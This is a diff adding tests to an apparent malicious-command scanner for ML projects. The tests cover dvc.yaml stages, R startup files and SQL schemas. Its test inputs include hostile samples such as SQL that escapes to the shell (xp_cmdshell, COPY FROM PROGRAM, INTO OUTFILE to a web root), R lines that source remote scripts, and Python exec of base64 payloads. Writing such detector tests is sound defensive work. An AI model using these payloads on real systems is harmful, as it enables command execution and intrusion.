@@ -35,6 +35,59 @@ def test_commands(name, pattern, severity):
     assert verdicts(pattern.format("python train.py | tee log && curl -O https://x/y"), name) == []
 
 
+@pytest.mark.parametrize(
+    "command",
+    [
+        "python -c 'import os; os.system(1)'",
+        "python3 -u -c \"import subprocess; subprocess.run(['id'])\"",
+        "python -c \"exec(__import__('base64').b64decode('eA=='))\"",
+        "python -c '__import__(\"os\").popen(1)'",
+    ],
+)
+def test_python_on_a_command_line(command):
+    assert verdicts(f"stages:\n  a:\n    cmd: {command}\n", "dvc.yaml") == [("MLG-CMD-001", "high")]
+    harmless = "python -c 'import nltk; nltk.download(\"punkt\")' && python -c 'import os; print(os.name)'"
+    assert verdicts(f"stages:\n  a:\n    cmd: {harmless}\n", "dvc.yaml") == []
+
+
+@pytest.mark.parametrize(
+    ("line", "severity"),
+    [
+        ("system('id')", "high"),
+        ("x <- system2('id', stdout = TRUE)", "high"),
+        ("source('https://x/y.R')", "high"),
+        ("source(url('http://x/y.R'))", "high"),
+        ("eval(parse(text = x))", "high"),
+        ("download.file('http://x', 'y')", "high"),
+        ("source('renv/activate.R')", None),
+        ("options(repos = c(CRAN = 'https://cloud.r-project.org'))  # system('id')", None),
+    ],
+)
+def test_what_r_runs_when_it_starts(line, severity):
+    expected = [("MLG-CMD-001", severity)] if severity else []
+    assert verdicts(f"options(digits = 4)\n{line}\n", ".Rprofile") == expected
+    assert verdicts(f"{line}\n", "analysis.R") == []
+
+
+@pytest.mark.parametrize(
+    "statement",
+    [
+        "COPY t FROM PROGRAM 'id';",
+        "copy (select 1) to program 'id'",
+        "EXEC xp_cmdshell 'id';",
+        "SELECT sys_exec('id');",
+        "SELECT load_extension('./evil.so');",
+        "CREATE FUNCTION f() RETURNS void AS $$ pass $$ LANGUAGE plpython3u;",
+        "SELECT 'x' INTO OUTFILE '/var/www/x.php'",
+    ],
+)
+def test_sql_that_leaves_the_database(statement):
+    assert verdicts(f"CREATE TABLE t (a int);\n{statement}\n", "schema.sql") == [("MLG-CMD-001", "high")]
+    database = "SQLite format 3\0" + "x" * 100 + "\0" + statement
+    assert ("MLG-CMD-001", "high") in verdicts(database, "study.db")
+    assert verdicts("COPY t FROM '/data/t.csv' CSV; SELECT load(x)\n", "schema.sql") == []
+
+
 @pytest.mark.parametrize("name", ["README.md", "notes.txt", "prompts.json", "data.jsonl", "tokenizer.json"])
 def test_what_only_speaks_of_commands(name):
     assert verdicts(f'{{"text": "{CONNECT}"}}\n', name) == []
@@ -42,6 +95,12 @@ def test_what_only_speaks_of_commands(name):
 
 def test_comments_are_no_commands():
     assert verdicts(f"#!/bin/sh\n# {FETCH}\n", "a.sh") == []
+
+
+@given(st.binary(max_size=300), st.sampled_from(["x.sql", ".Rprofile", "x.ser"]))
+def test_any_bytes(data, name):
+    for start in (b"", b"SQLite format 3\0", b"\xac\xed\0\x05"):
+        look(start + data, name)
 
 
 @given(st.text(alphabet="curl base64 -d|sh/dev/tcp\n\\", max_size=300))
